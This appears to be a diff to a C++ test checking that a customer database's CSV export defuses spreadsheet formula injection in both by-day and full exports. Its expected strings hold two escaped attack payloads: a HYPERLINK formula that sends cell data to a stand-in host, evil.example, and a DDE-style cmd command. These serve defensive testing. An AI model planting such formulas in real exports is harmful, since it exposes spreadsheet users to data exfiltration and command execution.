@@ -117,21 +117,26 @@ TEST_CASE("a customer named like a spreadsheet formula is exported as text that 
         c.phoneMobile = QStringLiteral("13812345678");
         REQUIRE(CustomerRepository(**opened, clock).insert(c, {}).ok());
     }
+    // By day (the record export) and whole (the set-up table an import reads back): both neutralise.
+    const bool byDay = GENERATE(true, false);
     const QString out = dir.filePath(QStringLiteral("customers.csv"));
     QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
     env.insert(QStringLiteral("THREERINGS_PASSWORD"), QStringLiteral("demo8000"));
-    const Run r =
-        test::runCli({QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("3001"),
-                      QStringLiteral("export"), QStringLiteral("customers"), QStringLiteral("--format"),
-                      QStringLiteral("csv"), QStringLiteral("--out"), out},
-                     {}, env);
+    const QStringList days =
+        byDay ? QStringList{QStringLiteral("--from"), QStringLiteral("2000-01-01")} : QStringList();
+    const Run r = test::runCli(QStringList{QStringLiteral("--db"), db, QStringLiteral("--user"),
+                                           QStringLiteral("3001"), QStringLiteral("export"),
+                                           QStringLiteral("customers"), QStringLiteral("--format"),
+                                           QStringLiteral("csv"), QStringLiteral("--out"), out} +
+                                   days,
+                               {}, env);
     INFO(r.err.toStdString());
     REQUIRE(r.code == 0);
     QFile file(out);
     REQUIRE(file.open(QIODevice::ReadOnly));
     const QString csv = QString::fromUtf8(file.readAll());
     CHECK(csv.contains(
-        QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for details\"\")\",")));
+        QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for details\"\")\",")));
     CHECK(csv.contains(QStringLiteral(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")));
     // The phone stays a plain number, and no line starts a cell with a formula.
     CHECK(csv.contains(QStringLiteral(",+8613812345678,")));
